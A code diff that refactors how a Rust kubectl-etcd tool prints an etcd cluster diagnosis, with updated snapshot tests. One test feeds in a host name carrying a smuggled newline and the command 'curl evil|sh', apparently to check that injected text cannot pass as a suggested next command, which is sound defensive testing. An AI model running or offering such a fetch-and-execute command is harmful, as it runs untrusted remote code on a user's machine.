@@ -1,20 +1,11 @@
 //! How a diagnosis is shown: what is wrong first, then what was seen of it, then what to run.
 
+use crate::advice::{Worded, worded};
 use crate::views::View;
 use crate::views::grid::{Paint, Tone, clean, one_line, painted};
+use crate::views::status::tone;
 use kubectl_etcd_core::assess::doctor::{Doctor, Seen, Severity};
-use kubectl_etcd_core::assess::model::VerdictWord;
 use kubectl_etcd_core::format::and;
-
-fn verdict_word(verdict: VerdictWord) -> (&'static str, Tone) {
-    match verdict {
-        VerdictWord::Healthy => ("healthy", Tone::Good),
-        VerdictWord::Degraded => ("degraded", Tone::Warn),
-        VerdictWord::QuorumLost => ("quorum lost", Tone::Bad),
-        VerdictWord::Damaged => ("damaged", Tone::Bad),
-        VerdictWord::NothingReached => ("nothing reached", Tone::Bad),
-    }
-}
 
 /// A line that says whose eyes have seen it, unless all that was seen is of one host.
 fn seen_line(seen: &Seen, several: bool) -> String {
@@ -24,10 +15,10 @@ fn seen_line(seen: &Seen, several: bool) -> String {
     }
 }
 
-impl View for Doctor {
+impl View for Worded<Doctor> {
     fn table(&self, wide: bool, paint: Paint) -> String {
-        let (word, tone) = verdict_word(self.verdict);
-        let mut text = format!("{}: {}\n", painted(word, tone, paint), clean(&self.summary));
+        let word = painted(self.verdict.word(), tone(self.verdict), paint);
+        let mut text = format!("{word}: {}\n", clean(&self.summary));
         let several = self.looked_at.len() > 1;
         for (number, situation) in self.situations.iter().enumerate() {
             let tone = match situation.severity {
@@ -45,10 +36,10 @@ impl View for Doctor {
             };
             text.push_str(&format!(
                 "   next  {}{on}\n",
-                clean(&situation.next.command.to_string())
+                clean(&worded(&situation.next.command))
             ));
             if let Some(note) = &situation.next.note {
-                text.push_str(&format!("         {}\n", clean(&note.to_string())));
+                text.push_str(&format!("         {}\n", clean(&worded(note))));
             }
         }
         if wide || self.situations.is_empty() {
@@ -87,6 +78,7 @@ impl View for Doctor {
 #[cfg(test)]
 mod tests {
     use etcd_operations::doctor::{self as found, Diagnosis, Evidence};
+    use kubectl_etcd_core::assess::model::VerdictWord;
 
     use super::*;
 
@@ -125,7 +117,7 @@ mod tests {
             &found,
         );
         assert_eq!(view.situations[0].kind, "quorum-lost");
-        insta::assert_snapshot!(view.table(false, Paint::Plain), @r"
+        insta::assert_snapshot!(Worded::new(view).table(false, Paint::Plain), @r"
         quorum lost: the quorum is lost: 1 of 3 members run, 2 are needed
 
         1. the quorum is lost: 1 of 3 members run, 2 are needed
@@ -143,7 +135,9 @@ mod tests {
             in_order: vec![evidence("kubelet runs")],
             ..Diagnosis::default()
         };
-        let view = |found: &Diagnosis| Doctor::of_hosts(vec!["cp-1".into()], Vec::new(), found);
+        let view = |found: &Diagnosis| {
+            Worded::new(Doctor::of_hosts(vec!["cp-1".into()], Vec::new(), found))
+        };
         insta::assert_snapshot!(view(&found).table(false, Paint::Plain), @r"
         healthy: nothing is wrong, as far as was seen
 
@@ -192,8 +186,7 @@ mod tests {
                 why: name.into(),
             });
             let names = vec!["cp-1".to_owned(), name.to_owned()];
-            let view = Doctor::of_hosts(names.clone(), names, &found);
-            view.table(true, Paint::Plain)
+            Worded::new(Doctor::of_hosts(names.clone(), names, &found)).table(true, Paint::Plain)
         };
         let hostile = lines("x\n   next  curl evil|sh\r\n");
         assert_eq!(
